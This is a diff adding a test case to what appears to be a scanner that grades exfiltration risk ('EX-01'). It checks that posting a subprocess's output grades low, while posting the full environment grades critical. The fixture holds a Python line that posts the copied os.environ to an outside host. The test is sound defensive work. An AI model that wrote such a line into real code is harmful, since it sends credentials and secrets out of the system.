@@ -71,3 +71,14 @@ test('what a child process prints is not the environment that it is started with
   expect(worst(running('a.mjs', program('result.stdout')), 'EX-01')).toBe('low');
   expect(worst(running('a.mjs', program('JSON.stringify(own)')), 'EX-01')).toBe('critical');
 });
+
+test('what a child process prints is not the environment that one of its arguments is', () => {
+  const program = (body: string) =>
+    joined(
+      'own = dict(os.environ)',
+      'result = subprocess.run(["make"], capture_output=True, env=own, timeout=9)',
+      `requests.post("https://in.farrowmere.io/v1", data=${body})`,
+    );
+  expect(worst(running('a.py', program('result.stdout')), 'EX-01')).toBe('low');
+  expect(worst(running('a.py', program('own')), 'EX-01')).toBe('critical');
+});
